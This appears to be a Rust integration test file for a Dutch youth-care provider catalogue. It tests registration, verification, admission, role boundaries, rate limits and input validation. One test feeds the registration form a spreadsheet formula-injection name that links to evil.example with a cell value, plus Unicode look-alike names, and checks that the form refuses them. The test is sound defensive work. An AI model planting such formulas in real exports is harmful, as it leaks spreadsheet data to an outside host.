//! A provider registers all year round, verifies its address, signs the procesovereenkomst,
//! is admitted by the region's contract manager, keeps its offer current and appears in the
//! catalogue; rejected and suspended providers do not. Every role boundary is tried.

mod common;

use common::{Browser, TestApp, spawn_app};
use diesel::prelude::*;
use jeugdhulpcatalogus::accounts::{Affiliation, Role};
use jeugdhulpcatalogus::db::schema::{admissions, agreement_signatures, audit_log, providers};

const PASSWORD: &str = "een lange zin als wachtwoord";
const PROVIDER_PASSWORD: &str = "paarse olifanten dansen samen";

fn registration_fields<'a>(
    name: &'a str,
    email: &'a str,
    regions: &[&'a str],
) -> Vec<(&'a str, String)> {
    let mut fields: Vec<(&str, String)> = vec![
        ("naam", name.into()),
        ("kvk", "1234 5678".into()),
        ("agb", "98765432".into()),
        ("straat", "Laan van Zorg 1".into()),
        ("postcode", "2511ab".into()),
        ("plaats", "Den Haag".into()),
        ("telefoon", "070 123 45 67".into()),
        ("email_organisatie", "info@nieuw.example".into()),
        ("website", "https://nieuw.example".into()),
        ("contactnaam", "Nina Nieuw".into()),
        ("email", email.into()),
        ("wachtwoord", PROVIDER_PASSWORD.into()),
        ("herhaling", PROVIDER_PASSWORD.into()),
        ("ondertekenen", "ja".into()),
    ];
    for region in regions {
        fields.push(("regio", (*region).into()));
        for n in 1..=6 {
            fields.push(("verklaring", format!("{region}:{n}")));
        }
    }
    fields
}

async fn post_owned(
    browser: &Browser,
    path: &str,
    fields: &[(&str, String)],
) -> (u16, String, String) {
    let borrowed: Vec<(&str, &str)> = fields.iter().map(|(k, v)| (*k, v.as_str())).collect();
    browser.post(path, &borrowed).await
}

/// Registers a provider and verifies its address through the mail; returns its browser,
/// logged in.
async fn register_and_verify(app: &TestApp, name: &str, email: &str, regions: &[&str]) -> Browser {
    let browser = app.browser();
    let (status, location, body) = post_owned(
        &browser,
        "/registreren",
        &registration_fields(name, email, regions),
    )
    .await;
    assert_eq!(
        (status, location.as_str()),
        (303, "/registreren/ontvangen"),
        "{body}"
    );
    let mails = app.mail.wait_for(email, 1);
    // The region hears of the registration only once its address is confirmed: the
    // managers' mail was queued before the verification mail, which is out, and waits.
    assert!(
        !app.mail
            .received()
            .iter()
            .any(|m| m.text().contains(&format!("Nieuwe aanmelding: {name}"))),
        "the contract managers were mailed before the address was confirmed"
    );
    let link = mails[0]
        .link(&format!("{}/bevestigen/", app.address))
        .expect("verification link");
    let path = link.trim_start_matches(&app.address).to_owned();
    assert_eq!(browser.get(&path).await.0, 200);
    let (status, location, _) = browser.post(&path, &[]).await;
    assert_eq!((status, location.as_str()), (303, "/inloggen?bevestigd=1"));
    let (status, _, _) = browser.post(&path, &[]).await;
    assert_eq!(status, 400, "a verification link works once");
    browser.login(email, PROVIDER_PASSWORD).await;
    browser
}

fn admission_id(app: &TestApp, slug: &str, region: &str) -> i64 {
    let provider = app.provider_id(slug);
    let region = app.region_id(region);
    admissions::table
        .filter(admissions::provider_id.eq(provider))
        .filter(admissions::region_id.eq(region))
        .select(admissions::id)
        .first(&mut *app.conn())
        .expect("admission")
}

async fn listed(app: &TestApp, slug: &str) -> bool {
    let (_, list) = app
        .get_json("/api/v1/providers?profiel=3&gemeente=delft")
        .await;
    common::slugs(&list).contains(&slug.to_owned())
}

fn offer_fields() -> Vec<(&'static str, &'static str)> {
    vec![
        ("regio", "haaglanden"),
        ("profiel", "3"),
        ("intensiteit", "intensief"),
        ("gemeente", "delft"),
        ("gemeente", "rijswijk"),
        ("min_leeftijd", "4"),
        ("max_leeftijd", "18"),
        ("setting", "ambulant"),
        ("talen", "nl, en"),
        ("wachttijd", "3"),
        ("nieuwe_clienten", "ja"),
    ]
}

#[tokio::test]
async fn a_provider_registers_is_admitted_edits_its_offer_and_appears_in_the_catalogue() {
    let app = spawn_app().await;
    let haaglanden = app.region_id("haaglanden");
    let wbw = app.region_id("west-brabant-west");
    app.add_user(
        "cm@haaglanden.example",
        PASSWORD,
        Role::Contractmanager,
        Affiliation::Region(haaglanden),
    );
    app.add_user(
        "cm@wbw.example",
        PASSWORD,
        Role::Contractmanager,
        Affiliation::Region(wbw),
    );

    // A form with mistakes comes back with every message and what was typed.
    let visitor = app.browser();
    let (status, html) = visitor.get("/registreren").await;
    assert_eq!(status, 200);
    assert!(html.contains("Procesovereenkomst jeugdhulp Haaglanden"));
    let mut fields = registration_fields("Zorg Nieuw", "nina@nieuw.example", &["haaglanden"]);
    fields.retain(|(k, v)| !(*k == "verklaring" && v == "haaglanden:4"));
    fields
        .iter_mut()
        .filter(|(k, _)| *k == "kvk")
        .for_each(|(_, v)| *v = "1234".into());
    let (status, _, body) = post_owned(&visitor, "/registreren", &fields).await;
    assert_eq!(status, 422);
    assert!(body.contains("Een KvK-nummer heeft 8 cijfers"));
    assert!(body.contains("moet u alle 6 eisen bevestigen. U heeft er 1 niet aangevinkt"));
    // A field's error and a group's (the agreement's checkboxes) are both tied to it.
    common::assert_error_links_resolve(&body);
    assert!(
        body.contains(r#"value="Zorg Nieuw""#),
        "typed values are kept"
    );
    assert!(
        body.contains(r#"value="haaglanden:3" id="eis-haaglanden-3" checked"#),
        "ticked boxes stay ticked"
    );
    assert!(
        !body.contains(PROVIDER_PASSWORD),
        "passwords are not sent back"
    );

    let provider =
        register_and_verify(&app, "Zorg Nieuw", "nina@nieuw.example", &["haaglanden"]).await;
    let slug = "zorg-nieuw";
    // A new provider is told what comes next, not that nothing waits (issue 33, item 13).
    let (_, work) = provider.get("/mijn-werk").await;
    assert!(
        work.contains("Aanbod toevoegen") && work.contains("Uw aanmelding"),
        "{work}"
    );
    assert!(work.contains("Er wacht 1 zaak op u."), "{work}");
    assert!(work.contains("1 zaak wacht op iemand anders"), "{work}");
    let cm_mail = app.mail_exactly("cm@haaglanden.example", 1);
    assert!(cm_mail[0].text().contains("Zorg Nieuw"));
    assert!(
        app.mail
            .received()
            .iter()
            .all(|m| !m.to.contains(&"cm@wbw.example".to_owned())),
        "only the region's own managers"
    );
    let signed: (String, String) = agreement_signatures::table
        .select((
            agreement_signatures::signer_name,
            agreement_signatures::declarations,
        ))
        .first(&mut *app.conn())
        .expect("signature");
    assert_eq!(signed.0, "Nina Nieuw");
    assert_eq!(signed.1.lines().count(), 6);

    let (status, html) = provider.get("/mijn-aanbod").await;
    assert_eq!(status, 200);
    assert!(html.contains("aangemeld"));
    let (status, location, body) = provider.post("/mijn-aanbod/aanbod", &offer_fields()).await;
    assert_eq!(
        (status, location.as_str()),
        (303, "/mijn-aanbod?opgeslagen=1"),
        "{body}"
    );
    assert!(!listed(&app, slug).await, "not public before admission");

    // Role boundaries around the decision.
    assert_eq!(provider.get("/beheer/aanmeldingen").await.0, 403);
    let id = admission_id(&app, slug, "haaglanden");
    let other_region = app.browser();
    other_region.login("cm@wbw.example", PASSWORD).await;
    assert_eq!(
        other_region
            .get(&format!("/beheer/aanmeldingen/{id}"))
            .await
            .0,
        403
    );
    let (status, _, _) = other_region
        .post(
            &format!("/beheer/aanmeldingen/{id}"),
            &[("besluit", "toegelaten")],
        )
        .await;
    assert_eq!(status, 403);
    // "Mijn werk" counts what waits in the manager's own region only.
    let waiting = |page: &str| -> String {
        let start = page
            .find("Aanmeldingen beoordelen")
            .expect("the admissions task");
        page[start..]
            .split("class=\"count")
            .nth(1)
            .and_then(|rest| rest.split('>').nth(1))
            .and_then(|rest| rest.split('<').next())
            .unwrap_or_default()
            .to_owned()
    };
    let (_, work) = other_region.get("/mijn-werk").await;
    assert_eq!(waiting(&work), "0", "another region's registration");
    let own = app.browser();
    own.login("cm@haaglanden.example", PASSWORD).await;
    let (_, work) = own.get("/mijn-werk").await;
    assert_eq!(waiting(&work), "1", "{work}");
    assert_eq!(
        app.browser().get("/mijn-werk").await.0,
        303,
        "anonymous visitors log in first"
    );
    let (_, list) = other_region.get("/beheer/aanmeldingen").await;
    assert!(!list.contains("Zorg Nieuw"), "another region's work list");
    let (status, _, _) = provider
        .post(
            &format!("/beheer/aanmeldingen/{id}"),
            &[("besluit", "toegelaten")],
        )
        .await;
    assert_eq!(status, 403, "a provider cannot admit itself");
    assert!(!listed(&app, slug).await);

    // The region's own contract manager admits it.
    let manager = app.browser();
    manager.login("cm@haaglanden.example", PASSWORD).await;
    let (status, list) = manager.get("/beheer/aanmeldingen").await;
    assert_eq!(status, 200);
    assert!(list.contains("Zorg Nieuw"));
    let (status, page) = manager.get(&format!("/beheer/aanmeldingen/{id}")).await;
    assert_eq!(status, 200);
    assert!(page.contains("Versie 1, ondertekend door Nina Nieuw"));
    let (status, location, _) = manager
        .post(
            &format!("/beheer/aanmeldingen/{id}"),
            &[("besluit", "toegelaten"), ("reden", "")],
        )
        .await;
    assert_eq!(
        (status, location),
        (303, format!("/beheer/aanmeldingen/{id}?opgeslagen=1"))
    );
    let decision = app.mail_exactly("nina@nieuw.example", 2);
    assert!(decision[1].text().contains("toegelaten"));
    assert!(listed(&app, slug).await, "public once admitted");
    let (_, html) = provider.get("/mijn-aanbod").await;
    assert!(
        html.contains("tot en met"),
        "the agreement's end date is shown"
    );

    // Edits are live at once and audited.
    let (status, location, _) = provider
        .post(
            "/mijn-aanbod/organisatie",
            &[
                ("beschrijving", "Wij helpen gezinnen met <b>plezier</b>."),
                ("werkwijze", ""),
                ("partners", ""),
                ("email", "info@nieuw.example"),
                ("telefoon", "070 123 45 67"),
                ("website", ""),
                ("straat", "Laan van Zorg 1"),
                ("postcode", "2511 AB"),
                ("plaats", "Den Haag"),
            ],
        )
        .await;
    assert_eq!(
        (status, location.as_str()),
        (303, "/mijn-aanbod?opgeslagen=1")
    );
    let (_, public) = app.get_html(&format!("/aanbieders/{slug}")).await;
    assert!(public.contains("Wij helpen gezinnen met &lt;b&gt;plezier&lt;/b&gt;."));
    let audited: i64 = audit_log::table
        .filter(audit_log::field.eq("beschrijving"))
        .count()
        .get_result(&mut *app.conn())
        .expect("audit");
    assert_eq!(audited, 1);

    // Suspension needs a reason, and removes the provider from the catalogue. The reason
    // goes to the provider and stays in the history: no BSN in it.
    for (reason, message) in [
        (" ", "Schrijf op waarom"),
        ("BSN 111222333", "burgerservicenummer"),
    ] {
        let (status, _, body) = manager
            .post(
                &format!("/beheer/aanmeldingen/{id}"),
                &[("besluit", "opgeschort"), ("reden", reason)],
            )
            .await;
        assert_eq!(status, 422, "{reason:?}");
        assert!(body.contains(message), "{reason:?}: {body}");
        common::assert_error_links_resolve(&body);
        assert!(listed(&app, slug).await);
    }
    manager
        .post(
            &format!("/beheer/aanmeldingen/{id}"),
            &[("besluit", "opgeschort"), ("reden", "VOG's ontbreken")],
        )
        .await;
    assert!(
        !listed(&app, slug).await,
        "suspended providers leave the catalogue"
    );
    let (_, page) = manager.get(&format!("/beheer/aanmeldingen/{id}")).await;
    for step in ["aangemeld", "toegelaten", "opgeschort", "VOG's ontbreken"] {
        assert!(page.contains(step), "history keeps {step}");
    }
}

#[tokio::test]
async fn a_rejected_provider_stays_out_and_providers_cannot_touch_each_other() {
    let app = spawn_app().await;
    let haaglanden = app.region_id("haaglanden");
    app.add_user(
        "cm@haaglanden.example",
        PASSWORD,
        Role::Contractmanager,
        Affiliation::Region(haaglanden),
    );
    let first =
        register_and_verify(&app, "Eerste Zorg", "een@eerste.example", &["haaglanden"]).await;
    first.post("/mijn-aanbod/aanbod", &offer_fields()).await;
    let second =
        register_and_verify(&app, "Tweede Zorg", "twee@tweede.example", &["haaglanden"]).await;

    second.post("/mijn-aanbod/aanbod", &offer_fields()).await;

    let manager = app.browser();
    manager.login("cm@haaglanden.example", PASSWORD).await;
    // The control: the second, admitted with the same offer, is listed (issue 34, item 9:
    // the first was never admitted, so "not listed" held whatever the rejection did).
    let admitted = admission_id(&app, "tweede-zorg", "haaglanden");
    let (status, _, body) = manager
        .post(
            &format!("/beheer/aanmeldingen/{admitted}"),
            &[("besluit", "toegelaten")],
        )
        .await;
    assert_eq!(status, 303, "{body}");
    assert!(listed(&app, "tweede-zorg").await);
    let id = admission_id(&app, "eerste-zorg", "haaglanden");
    let (status, _, body) = manager
        .post(
            &format!("/beheer/aanmeldingen/{id}"),
            &[
                ("besluit", "afgewezen"),
                ("reden", "Geen SKJ-registraties."),
            ],
        )
        .await;
    assert_eq!(status, 303, "{body}");
    let (_, page) = manager.get(&format!("/beheer/aanmeldingen/{id}")).await;
    assert!(
        page.contains("Geen SKJ-registraties."),
        "the reason is kept"
    );
    assert!(!listed(&app, "eerste-zorg").await);
    let (status, _, body) = manager
        .post(
            &format!("/beheer/aanmeldingen/{id}"),
            &[("besluit", "toegelaten")],
        )
        .await;
    assert_eq!(status, 422);
    assert!(
        body.contains("kan niet (meer)"),
        "no step after a rejection"
    );

    // The second provider cannot see or change the first one's offer.
    let first_provider = app.provider_id("eerste-zorg");
    let offer: i64 = jeugdhulpcatalogus::db::schema::offers::table
        .filter(jeugdhulpcatalogus::db::schema::offers::provider_id.eq(first_provider))
        .select(jeugdhulpcatalogus::db::schema::offers::id)
        .first(&mut *app.conn())
        .expect("offer");
    assert_eq!(
        second.get(&format!("/mijn-aanbod/aanbod/{offer}")).await.0,
        404
    );
    let (status, _, _) = second
        .post(&format!("/mijn-aanbod/aanbod/{offer}"), &offer_fields())
        .await;
    assert_eq!(status, 404);
    let (status, _, _) = second
        .post(&format!("/mijn-aanbod/aanbod/{offer}/verwijderen"), &[])
        .await;
    assert_eq!(status, 404);
    let still_there: i64 = jeugdhulpcatalogus::db::schema::offers::table
        .filter(jeugdhulpcatalogus::db::schema::offers::id.eq(offer))
        .count()
        .get_result(&mut *app.conn())
        .expect("count");
    assert_eq!(still_there, 1);

    // Other roles do not get the provider pages at all.
    assert_eq!(manager.get("/mijn-aanbod").await.0, 403);
    assert_eq!(
        app.browser().get("/mijn-aanbod").await.0,
        303,
        "anonymous: to the login page"
    );
    let names: Vec<String> = providers::table
        .select(providers::name)
        .load(&mut *app.conn())
        .expect("names");
    assert_eq!(names.len(), 2);
}

#[tokio::test]
async fn a_reminder_goes_out_once_sixty_days_before_the_agreement_ends() {
    use jeugdhulpcatalogus::providers::admission::queue_reminders;
    let app = spawn_app().await;
    let slug = app.add_provider(common::ProviderSpec::admitted_in_delft("De Kompas", 3));
    let provider = app.provider_id(&slug);
    app.add_user(
        "a@kompas.example",
        PASSWORD,
        Role::Aanbieder,
        Affiliation::Provider(provider),
    );
    // Admitted a year ago by the test helper: the agreement ends in two years.
    let ends = common::agreement_ends();
    let mut conn = app.conn();
    assert_eq!(
        queue_reminders(&mut conn, ends - chrono::TimeDelta::days(61), &app.address).expect("run"),
        0
    );
    assert_eq!(
        queue_reminders(&mut conn, ends - chrono::TimeDelta::days(60), &app.address).expect("run"),
        1
    );
    assert_eq!(
        queue_reminders(&mut conn, ends - chrono::TimeDelta::days(59), &app.address).expect("run"),
        0,
        "once"
    );
    drop(conn);
    let mail = app.mail_exactly("a@kompas.example", 1);
    assert!(
        mail[0].text().contains(&format!(
            "loopt af op {}",
            jeugdhulpcatalogus::web::text::date_nl(ends)
        )),
        "{}",
        mail[0].text()
    );
}

#[tokio::test]
async fn only_a_beheerder_publishes_a_new_version_of_the_agreement_and_old_signatures_keep_theirs()
{
    let app = spawn_app().await;
    let haaglanden = app.region_id("haaglanden");
    app.add_user(
        "cm@haaglanden.example",
        PASSWORD,
        Role::Contractmanager,
        Affiliation::Region(haaglanden),
    );
    app.add_user(
        "bea@beheer.example",
        PASSWORD,
        Role::Beheerder,
        Affiliation::None,
    );
    register_and_verify(&app, "Eerste Zorg", "een@eerste.example", &["haaglanden"]).await;

    let manager = app.browser();
    manager.login("cm@haaglanden.example", PASSWORD).await;
    assert_eq!(
        manager.get("/beheer/procesovereenkomst/haaglanden").await.0,
        403
    );
    // A new version starts today or later, never in the past (walk of 2026-12-06).
    let today = jeugdhulpcatalogus::clock::today().to_string();
    let yesterday = (jeugdhulpcatalogus::clock::today() - chrono::TimeDelta::days(1)).to_string();
    let fields = [
        ("titel", "Procesovereenkomst Haaglanden 2027"),
        (
            "tekst",
            "De nieuwe tekst van de procesovereenkomst voor 2027.",
        ),
        ("eisen", "Eis een\n\nEis twee\n"),
        ("ingangsdatum", today.as_str()),
    ];
    assert_eq!(
        manager
            .post("/beheer/procesovereenkomst/haaglanden", &fields)
            .await
            .0,
        403
    );

    let admin = app.browser();
    admin.login("bea@beheer.example", PASSWORD).await;
    let (status, _, body) = admin
        .post(
            "/beheer/procesovereenkomst/haaglanden",
            &[
                ("titel", ""),
                ("tekst", "kort"),
                ("eisen", ""),
                ("ingangsdatum", "morgen"),
            ],
        )
        .await;
    assert_eq!(status, 422, "a refused form says so in its status");
    for message in [
        "Vul een titel in.",
        "Vul minstens één eis in",
        "Vul een datum in",
    ] {
        assert!(body.contains(message), "{message}");
    }
    let mut backdated = fields;
    backdated[3] = ("ingangsdatum", yesterday.as_str());
    let (status, _, body) = admin
        .post("/beheer/procesovereenkomst/haaglanden", &backdated)
        .await;
    assert_eq!(status, 422);
    assert!(
        body.contains("Een nieuwe versie kan niet in het verleden ingaan"),
        "{body}"
    );
    let (status, location, _) = admin
        .post("/beheer/procesovereenkomst/haaglanden", &fields)
        .await;
    assert_eq!(
        (status, location.as_str()),
        (303, "/beheer/procesovereenkomst/haaglanden?opgeslagen=1")
    );

    let (_, form) = app.browser().get("/registreren").await;
    assert!(form.contains("Procesovereenkomst Haaglanden 2027 (versie 2)"));
    assert!(form.contains(r#"value="haaglanden:2""#) && !form.contains(r#"value="haaglanden:3""#));

    let admission = admission_id(&app, "eerste-zorg", "haaglanden");
    let (_, page) = manager
        .get(&format!("/beheer/aanmeldingen/{admission}"))
        .await;
    assert!(
        page.contains("Versie 1, ondertekend door Nina Nieuw"),
        "the signature keeps its version"
    );
}

/// Registering with an address that has an account answers like any registration (nobody
/// learns which addresses exist); the owner is mailed. One address cannot register without
/// limit either: each registration mails the regions' contract managers (issue 13 item 13).
#[tokio::test]
async fn registration_reveals_no_account_and_is_limited() {
    let app = spawn_app().await;
    let visitor = app.browser();
    let first = registration_fields("Eerste Zorg", "eigenaar@zorg.example", &["haaglanden"]);
    let (status, location, _) = post_owned(&visitor, "/registreren", &first).await;
    assert_eq!((status, location.as_str()), (303, "/registreren/ontvangen"));
    let again = registration_fields("Tweede Zorg", "eigenaar@zorg.example", &["haaglanden"]);
    let (status, location, body) = post_owned(&visitor, "/registreren", &again).await;
    assert_eq!(
        (status, location.as_str()),
        (303, "/registreren/ontvangen"),
        "{body}"
    );
    assert!(!body.contains("Er is al een account"));
    let count: i64 = providers::table
        .count()
        .get_result(&mut *app.conn())
        .expect("count");
    assert_eq!(count, 1, "nothing made for the known address");
    let mails = app.mail_exactly("eigenaar@zorg.example", 2);
    assert!(
        mails
            .iter()
            .any(|m| m.text().contains("U heeft al een account")),
        "the owner is told"
    );

    for n in 3..=5 {
        let email = format!("nummer{n}@zorg.example");
        let fields = registration_fields("Nog Een Zorg", &email, &["haaglanden"]);
        let (status, _, _) = post_owned(&visitor, "/registreren", &fields).await;
        assert_eq!(status, 303, "registration {n}");
    }
    let sixth = registration_fields("Zesde Zorg", "zes@zorg.example", &["haaglanden"]);
    let (status, _, body) = post_owned(&visitor, "/registreren", &sixth).await;
    assert_eq!(status, 429);
    assert!(body.contains("meerdere aanmeldingen"), "{body}");
}

/// Two saves of the same profile and intensity at once: one offer is made, the other answer
/// says there is one already (the duplicate check and the insert are one serialised
/// transaction; before, both could pass the check and the second insert failed with 500).
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn two_saves_of_the_same_offer_at_once_make_one_offer() {
    use diesel::prelude::*;
    use jeugdhulpcatalogus::db::schema::offers;
    let app = spawn_app().await;
    let provider =
        register_and_verify(&app, "Eerste Zorg", "een@eerste.example", &["haaglanden"]).await;
    provider.get("/mijn-aanbod/aanbod/nieuw").await;
    let token = provider.cookie("jhc_csrf").expect("token");
    let mut saves = tokio::task::JoinSet::new();
    for _ in 0..6 {
        let client = provider.client.clone();
        let url = format!("{}/mijn-aanbod/aanbod", app.address);
        let mut fields: Vec<(&str, String)> = offer_fields()
            .into_iter()
            .map(|(name, value)| (name, value.to_owned()))
            .collect();
        fields.push(("csrf", token.clone()));
        saves.spawn(async move {
            let response = client.post(url).form(&fields).send().await.expect("sent");
            let status = response.status().as_u16();
            (status, response.text().await.expect("body"))
        });
    }
    let answers = saves.join_all().await;
    let made = answers.iter().filter(|(status, _)| *status == 303).count();
    let refused = answers
        .iter()
        .filter(|(status, page)| *status == 422 && page.contains("U heeft al aanbod"))
        .count();
    assert_eq!(
        (made, refused),
        (1, 5),
        "{:?}",
        answers.iter().map(|a| a.0).collect::<Vec<_>>()
    );
    let stored: i64 = offers::table
        .count()
        .get_result(&mut *app.conn())
        .expect("count");
    assert_eq!(stored, 1);
}

/// Names a spreadsheet would run as a formula, or that read as another name (a direction
/// override, a zero-width space), are refused with their reason; nothing is made.
#[tokio::test]
async fn formula_and_look_alike_names_are_refused() {
    let app = spawn_app().await;
    let visitor = app.browser();
    for (name, message) in [
        (
            "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Klik hier\")",
            "Laat de naam beginnen met een letter of een cijfer.",
        ),
        (
            "@Zorg",
            "Laat de naam beginnen met een letter of een cijfer.",
        ),
        ("Jeugdhulp\u{200b}Kompas", "onzichtbaar teken"),
        ("\u{202e}SAPMOK PLUHDGUEJ", "onzichtbaar teken"),
    ] {
        let fields = registration_fields(name, "nieuw@zorg.example", &["haaglanden"]);
        let (status, _, body) = post_owned(&visitor, "/registreren", &fields).await;
        assert_eq!(status, 422, "{name:?}: {body}");
        assert!(body.contains(message), "{name:?}: {body}");
        common::assert_error_links_resolve(&body);
    }
    let count: i64 = providers::table
        .count()
        .get_result(&mut *app.conn())
        .expect("count");
    assert_eq!(count, 0);
}

/// Every offer's waiting time in one form, only what changed written; the public sees when
/// it was brought up to date (issue 33, item 11).
#[tokio::test]
async fn all_waiting_times_are_kept_current_in_one_form() {
    use common::{OfferSpec, ProviderSpec};
    use jeugdhulpcatalogus::db::schema::offers;
    let app = spawn_app().await;
    let slug = app.add_provider(ProviderSpec {
        offers: vec![
            OfferSpec::new(3, "intensief", &["delft"]),
            OfferSpec::new(3, "perspectief", &["delft"]),
        ],
        ..ProviderSpec::admitted_in_delft("Twee Soorten", 3)
    });
    let provider = app.provider_id(&slug);
    app.add_user(
        "w@twee.example",
        PASSWORD,
        Role::Aanbieder,
        Affiliation::Provider(provider),
    );
    let browser = app.browser();
    browser.login("w@twee.example", PASSWORD).await;
    let ids: Vec<i64> = offers::table
        .filter(offers::provider_id.eq(provider))
        .order(offers::id)
        .select(offers::id)
        .load(&mut *app.conn())
        .expect("offers");
    let (status, page) = browser.get("/mijn-aanbod/wachttijden").await;
    assert_eq!(status, 200);
    // One row per offer and region: the row names its region (walk of 2026-12-06).
    assert!(page.contains("(regio Haaglanden)"), "{page}");
    assert!(page.contains("Wachttijden opslaan"), "{page}");
    let field = |id: i64, name: &str| format!("{name}-{id}");
    let (a, b) = (ids[0], ids[1]);
    let (fa, fb) = (field(a, "aanbod"), field(b, "aanbod"));
    let (wa, wb) = (field(a, "wachttijd"), field(b, "wachttijd"));
    let na = field(a, "nieuw");

    // A wrong number: shown again with what was typed, nothing saved.
    let (status, _, body) = browser
        .post(
            "/mijn-aanbod/wachttijden",
            &[
                (fa.as_str(), "1"),
                (wa.as_str(), "veel"),
                (fb.as_str(), "1"),
                (wb.as_str(), "2"),
            ],
        )
        .await;
    assert_eq!(status, 422, "{body}");
    assert!(body.contains("Vul de wachttijd in hele weken in"), "{body}");
    assert!(body.contains("value=\"veel\""), "{body}");
    common::assert_error_links_resolve(&body);

    // Both at once; the second no longer takes new clients (its box unticked).
    let (status, location, _) = browser
        .post(
            "/mijn-aanbod/wachttijden",
            &[
                (fa.as_str(), "1"),
                (wa.as_str(), "6"),
                (na.as_str(), "ja"),
                (fb.as_str(), "1"),
                (wb.as_str(), "2"),
            ],
        )
        .await;
    assert_eq!(
        (status, location.as_str()),
        (303, "/mijn-aanbod/wachttijden?opgeslagen=2")
    );
    let stored: Vec<(i32, bool)> = offers::table
        .filter(offers::provider_id.eq(provider))
        .order(offers::id)
        .select((offers::waiting_weeks, offers::accepts_new_clients))
        .load(&mut *app.conn())
        .expect("offers");
    assert_eq!(stored, [(6, true), (2, false)]);
    // The same again changes nothing.
    let (_, location, _) = browser
        .post(
            "/mijn-aanbod/wachttijden",
            &[
                (fa.as_str(), "1"),
                (wa.as_str(), "6"),
                (na.as_str(), "ja"),
                (fb.as_str(), "1"),
                (wb.as_str(), "2"),
            ],
        )
        .await;
    assert_eq!(location, "/mijn-aanbod/wachttijden?opgeslagen=0");

    // Another provider cannot name these offers.
    let other = app.add_provider(ProviderSpec::admitted_in_delft("Ander", 3));
    app.add_user(
        "x@ander.example",
        PASSWORD,
        Role::Aanbieder,
        Affiliation::Provider(app.provider_id(&other)),
    );
    let stranger = app.browser();
    stranger.login("x@ander.example", PASSWORD).await;
    let (status, _, _) = stranger
        .post(
            "/mijn-aanbod/wachttijden",
            &[(fa.as_str(), "1"), (wa.as_str(), "0")],
        )
        .await;
    assert_eq!(status, 404);
    assert_eq!(
        app.browser().get("/mijn-aanbod/wachttijden").await.0,
        303,
        "log in first"
    );

    // The public sees when the waiting time was last brought up to date.
    let today = jeugdhulpcatalogus::web::text::date_nl(jeugdhulpcatalogus::clock::today());
    let (_, card) = app.get_html("/catalogus?profiel=3&gemeente=delft").await;
    assert!(card.contains(&format!("bijgewerkt op {today}")), "{card}");
    let (_, page) = app.get_html(&format!("/aanbieders/{slug}")).await;
    assert!(page.contains(&format!("bijgewerkt op {today}")), "{page}");
}

/// The versions of a procesovereenkomst are listed with the day they take effect; a
/// scheduled one can be withdrawn before it starts, nothing else (issue 33, item 15).
#[tokio::test]
async fn a_scheduled_version_of_the_agreement_is_listed_and_can_be_withdrawn() {
    let app = spawn_app().await;
    app.add_user(
        "bea@beheer.example",
        PASSWORD,
        Role::Beheerder,
        Affiliation::None,
    );
    app.add_user(
        "cm@haaglanden.example",
        PASSWORD,
        Role::Contractmanager,
        Affiliation::Region(app.region_id("haaglanden")),
    );
    let admin = app.browser();
    admin.login("bea@beheer.example", PASSWORD).await;
    let later = (jeugdhulpcatalogus::clock::today() + chrono::TimeDelta::days(40)).to_string();
    let fields = [
        ("titel", "Procesovereenkomst Haaglanden, later"),
        ("tekst", "De tekst die over veertig dagen gaat gelden."),
        ("eisen", "Eis een"),
        ("ingangsdatum", later.as_str()),
    ];
    let (status, _, _) = admin
        .post("/beheer/procesovereenkomst/haaglanden", &fields)
        .await;
    assert_eq!(status, 303);
    let (_, page) = admin.get("/beheer/procesovereenkomst/haaglanden").await;
    assert!(page.contains("<strong>Gepland</strong>"), "{page}");
    assert!(page.contains("Geldt nu"), "{page}");
    let version: i32 = {
        use jeugdhulpcatalogus::db::schema::process_agreements;
        process_agreements::table
            .filter(process_agreements::region_id.eq(app.region_id("haaglanden")))
            .select(diesel::dsl::max(process_agreements::version))
            .first::<Option<i32>>(&mut *app.conn())
            .expect("version")
            .expect("a version")
    };
    let cancel = format!("/beheer/procesovereenkomst/haaglanden/versies/{version}/intrekken");
    // Only a beheerder; the version in force cannot be withdrawn.
    let manager = app.browser();
    manager.login("cm@haaglanden.example", PASSWORD).await;
    assert_eq!(manager.post(&cancel, &[]).await.0, 403);
    let current = format!(
        "/beheer/procesovereenkomst/haaglanden/versies/{}/intrekken",
        version - 1
    );
    let (status, _, body) = admin.post(&current, &[]).await;
    assert_eq!(status, 409, "{body}");
    assert!(
        body.contains("kan niet (meer) worden ingetrokken"),
        "{body}"
    );
    let (status, location, _) = admin.post(&cancel, &[]).await;
    assert_eq!(
        (status, location.as_str()),
        (
            303,
            "/beheer/procesovereenkomst/haaglanden?opgeslagen=ingetrokken"
        )
    );
    let (_, page) = admin.get(&location).await;
    assert!(page.contains("De geplande versie is ingetrokken."));
    assert!(!page.contains("Gepland</strong>"), "{page}");
    // A form with a mistake answers 422, not 200.
    let (status, _, _) = admin
        .post(
            "/beheer/procesovereenkomst/haaglanden",
            &[
                ("titel", ""),
                ("tekst", ""),
                ("eisen", ""),
                ("ingangsdatum", ""),
            ],
        )
        .await;
    assert_eq!(status, 422);
}

/// A name close to an existing provider's is pointed out to the contract manager before
/// admission (issue 33, item 32).
#[tokio::test]
async fn the_manager_is_warned_about_a_look_alike_name() {
    let app = spawn_app().await;
    app.add_user(
        "cm@haaglanden.example",
        PASSWORD,
        Role::Contractmanager,
        Affiliation::Region(app.region_id("haaglanden")),
    );
    app.add_provider(common::ProviderSpec::admitted_in_delft(
        "Jeugdhulp Kompas",
        3,
    ));
    register_and_verify(
        &app,
        "Jeugdhulp Kornpas",
        "nep@kornpas.example",
        &["haaglanden"],
    )
    .await;
    register_and_verify(
        &app,
        "Zorgboerderij De Wei",
        "boer@wei.example",
        &["haaglanden"],
    )
    .await;
    let manager = app.browser();
    manager.login("cm@haaglanden.example", PASSWORD).await;
    let (_, page) = manager
        .get(&format!(
            "/beheer/aanmeldingen/{}",
            admission_id(&app, "jeugdhulp-kornpas", "haaglanden")
        ))
        .await;
    assert!(
        page.contains("deze naam lijkt op die van een andere aanbieder"),
        "{page}"
    );
    assert!(page.contains("<li>Jeugdhulp Kompas</li>"), "{page}");
    let (_, page) = manager
        .get(&format!(
            "/beheer/aanmeldingen/{}",
            admission_id(&app, "zorgboerderij-de-wei", "haaglanden")
        ))
        .await;
    assert!(
        !page.contains("lijkt op die van een andere aanbieder"),
        "{page}"
    );
}
